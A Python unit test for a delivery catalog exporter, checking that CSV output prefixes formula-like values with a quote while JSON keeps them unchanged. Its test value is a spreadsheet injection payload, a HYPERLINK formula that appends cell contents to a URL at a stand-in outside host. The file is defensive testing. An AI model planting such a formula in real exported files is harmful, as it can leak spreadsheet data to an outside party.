"""The catalog of a delivery: programs read the values unchanged, and spreadsheets compute nothing from them."""

import csv
import io
import json

from stages.delivery.catalog import catalog_csv, catalog_json

ORDERED = '=HYPERLINK("http://elsewhere/"&A1)'


def test_a_name_like_a_formula_is_text_to_spreadsheets_and_unchanged_in_json():
    row = {"file": "clips/a_1.flac", "name": ORDERED, "title": "@me", "loudness": -16.0, "scores": {}, "bytes": 5}
    (cells,) = csv.DictReader(io.StringIO(catalog_csv([row]).decode()))
    assert (cells["name"], cells["title"]) == (f"'{ORDERED}", "'@me")
    assert (cells["file"], cells["loudness"]) == ("clips/a_1.flac", "-16.0")
    assert json.loads(catalog_json([row]))["clips"] == [row]
